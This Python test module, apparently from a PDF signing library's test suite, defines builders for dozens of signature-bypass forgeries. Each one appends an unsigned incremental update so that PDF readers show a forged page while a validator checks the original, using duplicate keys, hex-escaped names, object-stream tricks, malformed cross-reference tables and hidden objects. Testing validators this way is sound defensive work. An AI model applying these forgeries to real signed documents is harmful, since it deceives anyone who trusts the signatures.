"""Forgeries on which PDF readers disagree: what one of them shows is not what another one checks.

All are appended to a sealed file without any key, after reports that pyHanko keeps the first of two equal keys while
pdfium, poppler and qpdf show the last. Each builder takes the sealed bytes and returns the forged file.
"""

import re
import zlib
from collections.abc import Callable

from tests.pdf import attacks
from tests.pdf.attacks import STARTXREF, Update, object_text, page_number, root_number, size, stream

Attack = Callable[[bytes], bytes]


def _page(n: int) -> dict[int, bytes]:
    """A forged page tree in objects n to n + 2."""
    font = b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    return {
        n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1),
        n + 1: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources%s/Contents %d 0 R>>" % (n, font, n + 2),
        n + 2: stream(attacks.FAKE_TEXT),
    }


def _open(text: bytes) -> bytes:
    return text.rstrip()[:-2]


def _form(data: bytes) -> int:
    return int(re.search(rb"/AcroForm (\d+) 0 R", object_text(data, root_number(data)))[1])  # type: ignore[index]


def catalog(insert: bytes) -> Attack:
    """The catalog again, with `insert` (where N is the forged page tree) at its end."""

    def forge(data: bytes) -> bytes:
        n = size(data)
        text = _open(object_text(data, root_number(data))) + b" " + insert.replace(b"N", b"%d 0 R" % n) + b">>"
        return Update(data).append({root_number(data): text, **_page(n)})

    return forge


def catalog_first(insert: bytes) -> Attack:
    def forge(data: bytes) -> bytes:
        n = size(data)
        text = b"<<" + insert.replace(b"N", b"%d 0 R" % n) + object_text(data, root_number(data)).lstrip()[2:]
        return Update(data).append({root_number(data): text, **_page(n)})

    return forge


def page(insert: bytes) -> Attack:
    """The page again, with `insert` (where N is a forged content stream) at its end."""

    def forge(data: bytes) -> bytes:
        n = size(data)
        text = _open(object_text(data, page_number(data))) + b" " + insert.replace(b"N", b"%d 0 R" % n) + b">>"
        return Update(data).append({page_number(data): text, n: stream(attacks.FAKE_TEXT)})

    return forge


def form(insert: bytes) -> Attack:
    def forge(data: bytes) -> bytes:
        text = _open(object_text(data, _form(data))) + b" " + insert + b">>"
        return Update(data).append({_form(data): text})

    return forge


def tree(insert: bytes) -> Attack:
    """The page tree's root again."""

    def forge(data: bytes) -> bytes:
        n = size(data)
        number = int(re.search(rb"/Pages (\d+) 0 R", object_text(data, root_number(data)))[1])  # type: ignore[index]
        text = _open(object_text(data, number)) + insert.replace(b"N", b"%d 0 R" % (n + 1)) + b">>"
        return Update(data).append({number: text, **_page(n)})

    return forge


def trailer(insert: bytes, *, forged_first: bool = False) -> Attack:
    """A validation data update whose trailer says more; N is a forged catalog."""

    def forge(data: bytes) -> bytes:
        n, root = size(data) + 2, root_number(data)
        text = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % n, object_text(data, root))
        other = root if forged_first else n + 3
        said = insert.replace(b"N", b"%d 0 R" % other).replace(b"X", STARTXREF.search(data)[1])  # type: ignore[index]
        objects = {**evidence(data), n + 3: text, **_page(n)}
        return Update(data).append(objects, root=n + 3 if forged_first else None, trailer=said)

    return forge


def evidence(data: bytes) -> dict[int, bytes]:
    """An honest validation data update, the carrier of many of these attacks."""
    n, root = size(data), root_number(data)
    return {
        root: _open(object_text(data, root)) + b"/DSS %d 0 R>>" % n,
        n: b"<</Type /DSS /Certs [%d 0 R]>>" % (n + 1),
        n + 1: stream(b"not a certificate"),
    }


def carried(change: Callable[[bytes], bytes]) -> Attack:
    """An honest validation data update, altered as text; lengths are kept or the table is wrong by that much."""

    def forge(data: bytes) -> bytes:
        tail = Update(data).append(evidence(data))[len(data) :]
        changed = change(tail)
        assert changed != tail
        return data + changed

    return forge


def rebuilt(change: Callable[[int, bytes], bytes]) -> Attack:
    """An honest validation data update whose objects are altered before its table is made."""

    def forge(data: bytes) -> bytes:
        objects = evidence(data)
        changed = {number: change(number - size(data), text) for number, text in objects.items()}
        assert changed != objects
        return Update(data).append(changed)

    return forge


def packed(
    data: bytes,
    *,
    order: tuple[int, ...] = (0,),
    index: int = 0,
    gap: bytes = b"",
    extra: bytes = b"",
    twice: bool = False,
    claims: bytes = b"",
) -> bytes:
    """An update with cross-reference stream and object stream; member 0 is the honest catalog, 1 the forged one."""
    root, n, out, places = root_number(data), size(data), bytearray(data), dict[int, int]()
    honest = object_text(data, root)
    with_store = _open(honest) + b"/DSS %d 0 R>>" % (n + 5)
    forged = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % n, honest)
    plain = {**_page(n), n + 5: b"<</Type /DSS>>"}
    for number, text in plain.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    members = [(with_store, forged)[which] for which in order]
    offsets = [sum(len(m) + 1 + len(gap) for m in members[:i]) for i in range(len(members))]
    head = b" ".join(b"%d %d" % (root, offset) for offset in offsets) + b" "
    body = head + (b" " + gap).join(members)
    text = b"<</Type/ObjStm/N %d/First %d/Length %d%s>>\nstream\n%s\nendstream" % (
        *(len(members), len(head), len(body), extra, body),
    )
    places[n + 3] = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (n + 3, text)
    places[n + 4] = len(out)
    rows, listed = b"", b""
    for number in sorted([root, *([root] if twice else []), *places]):
        listed += b"%d 1 " % number
        row = (2, n + 3, index) if number == root else (1, places[number], 0)
        rows += bytes([row[0]]) + row[1].to_bytes(4, "big") + bytes([row[2]])
    squeezed = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 1]/Index[%s]/Root %d 0 R/Prev %d/Filter/FlateDecode/Length %d%s>>\n"
        % (
            *(n + 4, n + 6, listed, root, int(STARTXREF.search(data)[1]), len(squeezed), claims),  # type: ignore[index]
        )
    )
    out += b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (squeezed, places[n + 4])
    return bytes(out)


DUPLICATES: dict[str, Attack] = {
    "catalog_pages": catalog(b"/Pages N"),
    "catalog_pages_first": catalog_first(b"/Pages N"),
    "catalog_hex_name": catalog(b"/P#61ges N"),
    "catalog_hex_name_first": catalog_first(b"/#50ages N"),
    "catalog_comment": catalog(b"%x\r/Pages N\n"),
    "catalog_comment_in_between": catalog(b"/Lang %x\r\n(a)"),
    "catalog_null": catalog(b"/Pages null/Pages N"),
    "catalog_null_key": catalog(b"/Lang null"),
    "catalog_nul_byte": catalog(b"/Pages\x00N"),
    "catalog_form_feed": catalog(b"/Pages\x0cN"),
    "catalog_plus": catalog(b"/Pages +N"),
    "catalog_octal_string": catalog(b"/Lang(\\)\\050)/Pages N/Z()"),
    "catalog_odd_hex_string": catalog(b"/Lang<6>/Pages N"),
    "catalog_string_with_newline_escape": catalog(b"/Lang(\\\n)/Pages N"),
    "catalog_form_twice": catalog(b"/AcroForm<</Fields[]>>"),
    "catalog_version_alone": catalog(b"/Version/2.0"),
    "catalog_extensions_alone": catalog(b"/Extensions<</ADBE<</BaseVersion/1.7/ExtensionLevel 8>>>>"),
    "page_contents": page(b"/Contents N"),
    "page_contents_hex": page(b"/Content#73 N"),
    "page_annots": page(b"/Annots[]"),
    "page_resources": page(b"/Resources<<>>"),
    "page_box": page(b"/MediaBox[0 0 10 10]"),
    "page_nested": page(b"/Group<</S/X/S/Transparency>>"),
    "pages_kids": tree(b"/Kids[N]"),
    "pages_count": tree(b"/Count 0"),
    "form_fields": form(b"/Fields[]"),
    "form_flags": form(b"/SigFlags 0"),
    "trailer_root": trailer(b"/Root N"),
    "trailer_root_first": trailer(b"/Root N", forged_first=True),
    "trailer_root_hex": trailer(b"/R#6fot N"),
    "trailer_root_comment": trailer(b"%x\r/Root N\n"),
    "trailer_prev": trailer(b"/Prev 0"),
    "trailer_prev_same": trailer(b"/Prev X"),
    "trailer_size": trailer(b"/Size 3"),
    "trailer_hybrid": trailer(b"/XRefStm X"),
    "trailer_encrypt": trailer(b"/Encrypt<</Filter/Standard>>"),
}

PACKED: dict[str, Attack] = {
    "member_twice_first": lambda d: packed(d, order=(0, 1), index=0),
    "member_twice_last": lambda d: packed(d, order=(0, 1), index=1),
    "member_twice_forged_first": lambda d: packed(d, order=(1, 0), index=0),
    "member_twice_forged_last": lambda d: packed(d, order=(1, 0), index=1),
    "member_index_off_by_one": lambda d: packed(d, index=1),
    "member_with_gap": lambda d: packed(d, order=(0, 0), gap=b"<</A 1>> "),
    "object_stream_extends": lambda d: packed(d, extra=b"/Extends 1 0 R"),
    "object_stream_count_twice": lambda d: packed(d, extra=b"/N 1"),
    "xref_stream_lists_twice": lambda d: packed(d, twice=True),
    "xref_stream_root_twice": lambda d: packed(d, claims=b"/Root 1 0 R"),
    "xref_stream_root_hex": lambda d: packed(d, claims=b"/R#6fot 1 0 R"),
    "xref_stream_prev_twice": lambda d: packed(d, claims=b"/Prev 0"),
    "xref_stream_with_hybrid": lambda d: packed(d, claims=b"/XRefStm 0"),
}


def _swap(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda tail: tail.replace(old, new)


def _off_by_one(tail: bytes) -> bytes:
    return re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m[1]) + 1), tail, count=1)


def _first_number(tail: bytes) -> bytes:
    return re.sub(rb"\A(\d+) 0 obj", lambda m: b"%d 0 obj" % (int(m[1]) % 9 + 1), tail)


SHAPES: dict[str, Attack] = {
    "entry_off_by_one": carried(_off_by_one),
    "entry_generation": carried(_swap(b" 00000 n", b" 00001 n")),
    "entry_generation_65535": carried(_swap(b" 00000 n", b" 65535 n")),
    "entry_19_bytes": carried(_swap(b" n \n", b" n\n")),
    "header_wrong_number": carried(_first_number),
    "header_generation": carried(_swap(b" 0 obj", b" 1 obj")),
    "header_newline": carried(_swap(b" 0 obj\n", b" 0\nobj ")),
    "stream_cr_only": carried(_swap(b">>\nstream\n", b">>\nstream\r")),
    "stream_space": carried(_swap(b">>\nstream\n", b">> stream \n"[:10])),
    "endobj_missing": carried(_swap(b"endobj\n", b"      \n")),
    "endobj_comment": carried(_swap(b"\nendobj", b"%endobj")),
    "end_comment": carried(_swap(b"trailer\n", b"%x\ntrailer\n")),
    "startxref_zero": carried(lambda t: re.sub(rb"startxref\n\d+", b"startxref\n0", t)),
    "startxref_comment": carried(_swap(b"startxref\n", b"%x\nstartxref\n")),
    "startxref_twice": carried(lambda t: t + t[t.rindex(b"startxref") :]),
    "two_tables": carried(lambda t: t[: t.rindex(b"xref\n", 0, -30)] + t[t.index(b"xref\n") :] * 2),
    "update_twice": carried(lambda t: t + t),
    "length_too_short": rebuilt(lambda _, t: t.replace(b"/Length 17", b"/Length 10")),
    "length_too_long": rebuilt(lambda _, t: t.replace(b"/Length 17", b"/Length 40")),
    "length_loop": rebuilt(lambda i, t: t.replace(b"/Length 17", b"/Length 1 0 R") if i == 1 else t),
    "length_twice": rebuilt(lambda _, t: t.replace(b"/Length 17", b"/Length 17/Length 3")),
    "external_stream": rebuilt(lambda _, t: t.replace(b"/Length 17", b"/Length 17/F(x.pdf)")),
    "evidence_twice": rebuilt(lambda i, t: t + b" <</Type/DSS>>" if i == 0 else t),
    "evidence_comment": rebuilt(lambda i, t: b"%x\n" + t if i == 0 else t),
    "evidence_key_twice": rebuilt(lambda i, t: t.replace(b"/Certs", b"/Certs []/Certs") if i == 0 else t),
}


def _searched(text: bytes) -> Attack:
    """A certificate stream that holds objects for readers that search; `text` may use P for the page's number."""

    def forge(data: bytes) -> bytes:
        objects, n = evidence(data), size(data)
        found = text.replace(b"P", b"%d" % page_number(data))
        return Update(data).append({**objects, n + 1: stream(found)})

    return forge


def _far(number: int) -> Attack:
    """An object number so large that some readers give up the cross-references and search."""

    def forge(data: bytes) -> bytes:
        objects, n = evidence(data), size(data)
        far = objects[n].replace(b"%d 0 R" % (n + 1), b"%d 0 R" % number)
        return Update(data).append({**objects, n: far, number: stream(b"not a certificate")})

    return forge


HIDDEN: dict[str, Attack] = {
    "page_in_a_stream": _searched(b"x\nP 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n"),
    "trailer_in_a_stream": _searched(b"x\ntrailer\n<</Root P 0 R>>\n"),
    "startxref_in_a_stream": _searched(b"x\nstartxref\n9\n%%EOF\n"),
    "page_in_a_string": rebuilt(lambda i, t: t.replace(b">>", b"/X(\n3 0 obj <<>> endobj\n)>>") if i == 0 else t),
    "number_beyond_pdfium": _far(5_000_000),
    "number_beyond_acrobat": _far(9_000_000),
    "number_beyond_31_bits": _far(2_147_483_647),
}

ATTACKS: dict[str, Attack] = {**DUPLICATES, **PACKED, **SHAPES, **HIDDEN}
